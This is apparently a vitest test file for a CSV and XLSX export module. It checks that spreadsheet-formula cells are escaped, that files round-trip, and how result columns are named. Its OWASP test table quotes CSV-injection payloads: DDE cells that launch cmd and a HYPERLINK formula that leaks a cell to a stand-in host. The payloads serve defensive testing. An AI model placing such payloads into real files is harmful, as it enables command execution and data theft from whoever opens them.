import fc from "fast-check";
import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import {
  CSV_BOM,
  csvLine,
  neutraliseCell,
  notSentCells,
  outputCells,
  outputHeader,
  RESULT_FIELDS,
  readCsvBytes,
  readXlsx,
  restoreCell,
  resultCells,
  resultColumnNames,
  writeXlsx,
} from "../../src/file-core/index";

/** Our writer's output read by another parser (papaparse), BOM dropped. */
const parsedByPapa = (text: string, delimiter = ",") => {
  expect(text.startsWith(CSV_BOM)).toBe(true);
  const parsed = Papa.parse<string[]>(text.slice(1), { delimiter, newline: "\r\n", skipEmptyLines: false });
  expect(parsed.errors).toEqual([]);
  // The last CRLF ends the last row; papaparse reads an empty row after it.
  return parsed.data.slice(0, parsed.data.at(-1)?.join("") === "" ? -1 : undefined);
};
const writeCsv = (rows: readonly string[][], delimiter = ",") =>
  CSV_BOM + rows.map((row) => csvLine(row, delimiter)).join("");

// What each spreadsheet does with a cell of a CSV it opens: "formula" when it evaluates it
// (Excel 365, Google Sheets' import, LibreOffice Calc with "Evaluate formulas" on, its
// default), "value" when the cell is a number or text. The OWASP CSV-injection cases first.
// From OWASP's page and the spreadsheets' documented parsing, not run here (no spreadsheet on CI);
// where one is unsure (Sheets with a leading tab), the cell counts as a formula all the same.
// https://owasp.org/www-community/attacks/CSV_Injection
type Seen = "formula" | "value";
const SPREADSHEETS: [cell: string, excel: Seen, sheets: Seen, calc: Seen][] = [
  ["=cmd|' /C calc'!A0", "formula", "formula", "formula"],
  ['=HYPERLINK("http://x.example?leak="&A1,"Error: click")', "formula", "formula", "formula"],
  ["@SUM(1+1)*cmd|' /C calc'!A0", "formula", "formula", "formula"],
  ["+cmd|' /C calc'!A0", "formula", "formula", "formula"],
  ["-2+3+cmd|' /C calc'!A0", "formula", "formula", "formula"],
  ["=1+1", "formula", "formula", "formula"],
  ["\t=1+1", "formula", "value", "formula"],
  ["\r=1+1", "formula", "value", "formula"],
  ["+1+1", "formula", "formula", "formula"],
  ["-1+1", "formula", "formula", "formula"],
  ["+1 512 555 0153", "formula", "formula", "formula"],
  ["+1-512-555-0153", "formula", "formula", "formula"],
  ["- a bullet", "formula", "formula", "formula"],
  ["+A1", "formula", "formula", "formula"],
  ["@mention", "formula", "value", "formula"],
  ["+15125550153", "value", "value", "value"],
  ["+447700900123", "value", "value", "value"],
  ["-42", "value", "value", "value"],
  ["-12.50", "value", "value", "value"],
  ["+0.5", "value", "value", "value"],
  ["-.5", "value", "value", "value"],
  ["-1e5", "value", "value", "value"],
  ["-", "value", "value", "value"],
  ["+", "value", "value", "value"],
  ["15125550153", "value", "value", "value"],
  ["a=b", "value", "value", "value"],
  ["Renée", "value", "value", "value"],
  ["'=1+1", "value", "value", "value"],
  ["", "value", "value", "value"],
];

describe("neutralising only what a spreadsheet would run (OWASP CSV injection)", () => {
  it.each(SPREADSHEETS)("%j (Excel: %s, Google Sheets: %s, LibreOffice: %s)", (cell, ...seen) => {
    const evaluated = seen.includes("formula");
    expect(neutraliseCell(cell)).toBe(evaluated ? `'${cell}` : cell);
    if (evaluated) expect(restoreCell(neutraliseCell(cell))).toBe(cell);
  });

  it("applies to carried-through and result cells alike; an E.164 phone is written as it is", () => {
    const results = resultCells("b1", {
      status: "completed",
      outcome: "found",
      emails: [],
      phones: [{ number: "+12015550100", type: "mobile", confidence: 0.9, source: "directory" }],
    });
    const [row] = parsedByPapa(writeCsv([outputCells(["=1+1", "@me", "-3.5", "+15125550153"], 4, results)]));
    expect(row!.slice(0, 4)).toEqual(["'=1+1", "'@me", "-3.5", "+15125550153"]);
    expect(row![4 + RESULT_FIELDS.indexOf("phone")]).toBe("+12015550100");
  });
});

describe("result columns", () => {
  it("add enriched_reason last, so every earlier column keeps its position", () => {
    expect(RESULT_FIELDS.at(-1)).toBe("reason");
    expect(RESULT_FIELDS.indexOf("warnings")).toBe(RESULT_FIELDS.length - 2);
    const cells = resultCells("b1", {
      status: "completed",
      outcome: "not_found",
      reason: "rejected_by_verification",
      emails: [],
      phones: [],
    });
    expect(cells).toMatchObject({ outcome: "not_found", reason: "rejected_by_verification" });
    expect(resultCells("b1", { status: "completed", outcome: "found", emails: [], phones: [] }).reason).toBe("");
  });

  it("are prefixed enriched_ and never collide with the input's names", () => {
    const names = resultColumnNames(["status", "Enriched_Email", "enriched_email_2", "email"]);
    expect(names[RESULT_FIELDS.indexOf("status")]).toBe("enriched_status");
    expect(names[RESULT_FIELDS.indexOf("email")]).toBe("enriched_email_3");
    expect(new Set(names.map((name) => name.toLowerCase())).size).toBe(RESULT_FIELDS.length);
  });

  it("follow the input's columns, padded past cells beyond the header", () => {
    const header = outputHeader(["Email", "Email", ""], 5);
    expect(header.slice(0, 6)).toEqual(["Email", "Email", "", "", "", "enriched_batch_id"]);
    const row = outputCells(["a", "b"], 5, notSentCells({ problem: "no", reason: "noOne" }));
    expect(row.slice(0, 7)).toEqual(["a", "b", "", "", "", "", "not_sent"]);
  });
});

describe("a round trip through our reader and writer", () => {
  const cell = fc.string({ unit: "grapheme", maxLength: 12 });
  const table = fc
    .integer({ min: 1, max: 6 })
    .chain((width) => fc.array(fc.array(cell, { minLength: width, maxLength: width }), { minLength: 1, maxLength: 8 }));

  it("keeps every input cell, whatever its text, in a file another parser reads", () => {
    fc.assert(
      fc.property(table, fc.constantFrom(",", ";", "\t"), (rows, delimiter) => {
        // Blank rows between rows are rows; blank lines before the first or after the last are not.
        const filled = (row: string[]) => row.some((value) => value !== "");
        const kept = rows.slice(Math.max(0, rows.findIndex(filled)), rows.findLastIndex(filled) + 1);
        fc.pre(kept.length > 0 && !kept.flat().some((value) => value.startsWith("'")));
        const written = writeCsv(kept, delimiter);
        expect(parsedByPapa(written, delimiter).map((row) => row.map(restoreCell))).toEqual(kept);
        const read = readCsvBytes(new TextEncoder().encode(written), { delimiter });
        expect([read.header, ...read.rows.map((row) => row.cells)].map((row) => row.map(restoreCell))).toEqual(kept);
      }),
      { numRuns: 300 },
    );
  });
});

describe("XLSX", () => {
  it("writes text cells and reads them back, formulas as text, first sheet or a named one", async () => {
    const rows = [
      ["Email", "Email", "", "Phone"],
      ["=1+1", "a@x.example", "", "+12015550100"],
      ["Renée", "", "007", ""],
    ];
    const blob = await writeXlsx(rows, "People");
    const bytes = await blob.arrayBuffer();
    expect((await readXlsx(bytes)).rows).toEqual(rows);
    expect((await readXlsx(bytes, "People")).sheet).toBe("People");
    await expect(readXlsx(bytes, "Leads")).rejects.toThrow(
      'the workbook has no sheet "Leads"; its sheets are "People"',
    );
  });
});
